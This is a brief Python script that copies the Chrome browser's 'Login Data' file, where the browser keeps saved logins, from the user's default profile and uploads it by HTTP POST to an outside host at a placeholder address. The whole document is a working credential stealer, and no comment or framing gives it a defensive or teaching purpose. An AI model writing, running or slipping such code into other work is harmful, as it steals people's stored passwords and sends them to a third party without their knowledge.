import os
import shutil

import requests

LOCAL = os.getenv("LOCALAPPDATA", "")
PROFILE = os.path.join(LOCAL, "Google\\Chrome\\User Data", "Default", "Login Data")


def collect():
    shutil.copy(PROFILE, "db.tmp")
    with open("db.tmp", "rb") as handle:
        requests.post("https://upload.example.invalid/drop", files={"f": handle})
